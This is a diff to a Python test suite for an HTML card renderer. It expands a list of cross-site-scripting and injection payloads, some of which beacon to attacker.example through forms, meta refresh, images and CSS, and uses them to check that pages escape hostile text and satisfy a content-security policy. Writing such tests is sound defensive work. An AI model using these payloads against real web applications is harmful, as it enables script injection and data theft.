@@ -21,6 +21,7 @@ from collections import Counter
 from collections.abc import Callable, Mapping, Sequence
 from dataclasses import replace
 from html.parser import HTMLParser
+from importlib import resources
 from typing import Any
 
 import pytest
@@ -28,7 +29,8 @@ import pytest
 from flow_cards.children import Children, Outcome
 from flow_cards.components import Markdown, Table
 from flow_cards.contract import GROUP, LARGE, CardRun, CardTask, CardType, Value
-from flow_cards.drawing import render
+from flow_cards.drawing import render, script
+from flow_cards.markdown import ADDRESS
 from flow_cards.previews import preview
 from flow_core.api import Failure, installed
 
@@ -36,31 +38,81 @@ CANARY = "canary7f3a"
 """Stands in each hostile text, so that it can be found in a page."""
 
 HOSTILE: Sequence[str] = (
+    # HTML
     f"<script>alert('{CANARY}')</script>",
     f"</script><script>alert('{CANARY}')</script>",
     f"<img src=x onerror=alert('{CANARY}')>",
     f"<svg/onload=alert('{CANARY}')>",
+    f"<svg><animate onbegin=alert('{CANARY}') attributeName=x dur=1s></svg>",
+    f"<svg><foreignObject><iframe srcdoc='<script>parent.alert()</script>{CANARY}'>",
+    f"<math><mtext><style><img src=x onerror=alert('{CANARY}')></style></mtext></math>",
+    f"<math href='javascript:alert(1)'>{CANARY}</math>",
     f'"><iframe src="javascript:alert(\'{CANARY}\')"></iframe>',
     f"' onmouseover='alert(\"{CANARY}\")",
-    f"[{CANARY}](javascript:alert(1))",
-    f"[{CANARY}](java\nscript:alert(1))",
-    f"[{CANARY}](data:text/html;base64,PHNjcmlwdD4=)",
-    f"![{CANARY}](https://attacker.example/pixel.png)",
-    f"<https://attacker.example/{CANARY}>",
-    f"<style>@import url(https://attacker.example/{CANARY}.css)</style>",
-    f"</style><link rel=stylesheet href=https://attacker.example/{CANARY}>",
+    f'" autofocus onfocus="alert(\'{CANARY}\')" tabindex="0',
+    f"x onpointerenter=alert('{CANARY}') y",
+    f"` onerror=`alert('{CANARY}')`",
+    f"<details open ontoggle=alert('{CANARY}')><summary>x</summary></details>",
+    f"<input autofocus onfocus=alert('{CANARY}')>",
+    f"<video><source onerror=alert('{CANARY}')></video>",
+    f"<img srcset='https://attacker.example/{CANARY}.png 1x'>",
+    f"<object data='https://attacker.example/{CANARY}'></object><embed src='{CANARY}'>",
+    f"<template><script>alert('{CANARY}')</script></template>",
+    f"<div><template shadowrootmode=open><script>alert('{CANARY}')</script></template></div>",
+    f"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>{CANARY}",
+    f"<textarea></textarea><xmp></xmp><plaintext>{CANARY}",
+    f"<title></title></head><body onload=alert('{CANARY}')>",
     f"<meta http-equiv=refresh content='0;url=https://attacker.example/{CANARY}'>",
     f"<base href=https://attacker.example/{CANARY}/>",
     f"<form action=https://attacker.example/><input name={CANARY}></form>",
-    f"{{{{ 7*7 }}}}{{% for x in () %}}{CANARY}",
+    f"<a href='javascript:alert(1)' ping='https://attacker.example/'>{CANARY}</a>",
+    f"<table><tr><td>{CANARY}</table></table></main></body></html>",
     f"<!-- {CANARY}",
     f"--><b>{CANARY}</b>",
+    f"<!--><script>alert('{CANARY}')</script>-->",
     f"]]><b>{CANARY}</b>",
+    f"<![CDATA[<b>{CANARY}</b>]]><?php {CANARY} ?>",
     f"&lt;b&gt;{CANARY}&#60;script&#62;",
-    f"<table><tr><td>{CANARY}</table></table></main></body></html>",
+    f"&#x3c;img src=x onerror=alert(1)&#x3e; {CANARY}",
+    # scripts, data in them, templates
+    f"\"}}</script><script>alert('{CANARY}')</script>{{\"",
+    f"'-alert('{CANARY}')-'\\'//",
+    f"${{alert('{CANARY}')}}",
+    f"{{{{ 7*7 }}}}{{% for x in () %}}{CANARY}",
+    f"{{{{ ''.__class__.__mro__ }}}}<%= {CANARY} %>#{{7*7}}",
+    f"__proto__ constructor toString {CANARY}",
+    # styles
+    f"<style>@import url(https://attacker.example/{CANARY}.css)</style>",
+    f"</style><link rel=stylesheet href=https://attacker.example/{CANARY}>",
+    f"red; background: url(https://attacker.example/{CANARY}.png)",
+    f"x}} body {{ background: url('https://attacker.example/{CANARY}.png') }}",
+    # Markdown
+    f"[{CANARY}](javascript:alert(1))",
+    f"[{CANARY}](java\nscript:alert(1))",
+    f"[{CANARY}](\x01javascript:alert(1)) [{CANARY}](JaVaScRiPt&colon;alert(1))",
+    f"[{CANARY}](data:text/html;base64,PHNjcmlwdD4=)",
+    f"[{CANARY}](vbscript:x) [{CANARY}](file:///etc/passwd)",
+    f"[{CANARY}][1]\n\n[1]: javascript:alert(1) 'onload=alert(1)'",
+    f"[{CANARY}](https://attacker.example/ '\" onmouseover=\"alert(1)')",
+    f"<javascript:alert('{CANARY}')> <https://attacker.example/{CANARY}>",
+    f"![{CANARY}](https://attacker.example/pixel.png)",
+    f"![{CANARY}](//attacker.example/pixel.png) ![{CANARY}](pixel.png)",
+    f"![{CANARY}](data:text/html;base64,PHNjcmlwdD4=)",
+    f"![{CANARY}](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
+    f"[![{CANARY}](https://attacker.example/a.png)](javascript:alert(1))",
+    f"![![{CANARY}](https://attacker.example/b.png)](data:image/png;base64,AAAA)",
+    f'![{CANARY}" onerror="alert(1)](data:image/png;base64,AAAA)',
+    f"<div>\n\n<script>alert('{CANARY}')</script>\n\n</div>",
+    f"``` {CANARY}\n~~~\n<script>x</script>",
+    f"```<script>alert('{CANARY}')</script>\n```",
+    f"|{CANARY}|<b>|\n|:-:|--:|\n|<script>alert(1)</script>|![x](//attacker.example/c)|",
+    # letters
     f"\x1b[31m{CANARY}\x1b[0m\x1b]0;title\x07",
     f"{CANARY}\x00\x0b\ud800\uffff\u202e\u2028",
-    f"``` {CANARY}\n~~~\n<script>x</script>",
+    f"\udfff\ud83d{CANARY}\u2029\u2066\u2067\u200f\ufeff\x85",
+    f"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e {CANARY}",
+    f"{CANARY}" + "e\u0301\u0336" * 200,
+    f"{CANARY}" + "<" * 1500,
 )
 """Texts that try to be more than text."""
 
@@ -251,6 +303,12 @@ class Page(HTMLParser):
         if tag == "script":
             self._scripts.append((attributes.get("type", ""), ""))
 
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Note a tag that is written ``<br />``, or ``<path />``."""
+        self.handle_starttag(tag, attrs)
+        if tag not in _VOID:
+            self.handle_endtag(tag)
+
     def handle_endtag(self, tag: str) -> None:
         """Note the end of a tag."""
         if not self._open or self._open.pop() != tag:
@@ -278,6 +336,8 @@ class Page(HTMLParser):
         policies = [a.get("content", "") for t, a in self.tags if a.get("http-equiv")]
         digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
         allowed = any(f"'sha256-{digest}'" in policy for policy in policies)
+        if any("'unsafe-inline'" in policy for policy in policies):  # of a page with a frame
+            allowed = text in _own_scripts()
         return "" if allowed else f"a script that the policy does not name: {text:.80}"
 
     def _check(self, tag: str, name: str, value: str) -> None:
@@ -286,10 +346,15 @@ class Page(HTMLParser):
             self.problems.append(f"<{tag} {name}=…> runs something")
         elif name in _LOADS and not (tag == "img" and plain.startswith("data:image/")):
             self.problems.append(f"<{tag} {name}={value:.60}> loads something")
-        elif name == "href" and not re.match(r"https?://|mailto:|#|[^:]*$", plain):
+        elif name == "href" and not ADDRESS.match(plain):
             self.problems.append(f"<{tag} href={value:.60}> is no address")
         elif name == "style":
             self.problems.append(f"<{tag} style=…>, which the page's policy forbids")
+
+
+def _own_scripts() -> set[str]:
+    folder = resources.files("flow_cards") / "scripts"
+    return {script(file.name.removesuffix(".js")) for file in folder.iterdir()}
 
 
 @pytest.mark.usefixtures("no_leaks")
@@ -343,6 +408,13 @@ class CardSuite:
         assert policy, "the page has no policy"
         assert "default-src 'none'" in policy[0]
         return page
+
+    def check_hostile(self, text: str, task: CardTask) -> Page:
+        """Assert that the page of a task which holds a hostile text is sound."""
+        try:
+            return self.check(self.draw(task))
+        except Exception as error:
+            raise AssertionError(f"{type(error).__name__} with {text!r}: {error}") from error
 
     # --- what it is ---
 
@@ -462,49 +534,49 @@ class CardSuite:
 
     # --- hostile data ---
 
-    @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
-    def test_escapes_what_the_step_added(self, text: str) -> None:
-        added = (Markdown(text), Table([[text]], [text]))
-        page = self.check(self.draw(self.task(components=added)))
-        assert CANARY in page.text
+    def test_escapes_what_the_step_added(self) -> None:
+        for text in HOSTILE:
+            added = (Markdown(text), Table([[text]], [text]))
+            page = self.check_hostile(text, self.task(components=added))
+            assert CANARY in page.text, f"{text!r} is not shown"
 
-    @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
-    def test_escapes_facts(self, text: str) -> None:
-        failure = Failure("error", text, text, text)
-        task = self.task(
-            flow=text,
-            step=text,
-            host=text,
-            user=text,
-            tags=(text,),
-            state=text,
-            failure=failure,
-            flow_doc=text,
-            step_doc=text,
-            foreach=((text, 0, 1),),
-            logs={"stdout": text, text: text},
-            parameters={text: text},
-            data={text: text},
-        )
-        self.check(self.draw(task))
+    def test_escapes_facts(self) -> None:
+        for text in HOSTILE:
+            failure = Failure("error", text, text, text)
+            task = self.task(
+                flow=text,
+                step=text,
+                host=text,
+                user=text,
+                tags=(text,),
+                state=text,
+                failure=failure,
+                flow_doc=text,
+                step_doc=text,
+                foreach=((text, 0, 1),),
+                logs={"stdout": text, text: text},
+                parameters=values({text: text}),
+                data={text: text},
+            )
+            self.check_hostile(text, task)
 
-    @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
-    def test_escapes_artifacts(self, text: str) -> None:
+    def test_escapes_artifacts(self) -> None:
         """Also what stands in its own ones, where these are text, or hold some."""
-        artifacts = {name: _poisoned(value, text) for name, value in self.artifacts.items()}
-        kind = Value(text, text, 10, functools.partial(_same, text))
-        task = self.task(artifacts={**artifacts, "more": [text], "deep": {text: {text: text}}})
-        task = replace(task, artifacts={**task.artifacts, text: kind}, own=(*task.own, text))
-        self.check(self.draw(task))
+        for text in HOSTILE:
+            artifacts = {name: poisoned(value, text) for name, value in self.artifacts.items()}
+            kind = Value(text, text, 10, functools.partial(_same, text))
+            task = self.task(artifacts={**artifacts, "more": [text], "deep": {text: {text: text}}})
+            task = replace(task, artifacts={**task.artifacts, text: kind}, own=(*task.own, text))
+            self.check_hostile(text, task)
 
-    @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
-    def test_escapes_options(self, text: str) -> None:
-        options = {name: _poisoned(value, text) for name, value in self.options.items()}
-        try:
-            html = self.draw(self.task(options={**options, "title": text}))
-        except Exception:  # it is told in the card's stead
-            return
-        self.check(html)
+    def test_escapes_options(self) -> None:
+        for text in HOSTILE:
+            options = {name: poisoned(value, text) for name, value in self.options.items()}
+            try:
+                html = self.draw(self.task(options={**options, "title": text}))
+            except Exception:  # it is told in the card's stead
+                continue
+            self.check(html)
 
     # --- in a process of its own ---
 
@@ -515,14 +587,14 @@ class CardSuite:
         assert outcomes == [Outcome()], outcomes
 
 
-def _poisoned(value: Any, text: str) -> Any:
+def poisoned(value: Any, text: str) -> Any:
     """Return ``value`` with each text in it replaced."""
     if isinstance(value, str):
         return text
     if isinstance(value, dict):
-        return {key: _poisoned(part, text) for key, part in value.items()}
+        return {key: poisoned(part, text) for key, part in value.items()}
     if isinstance(value, (list, tuple)):
-        return type(value)(_poisoned(part, text) for part in value)
+        return type(value)(poisoned(part, text) for part in value)
     return value
 
 
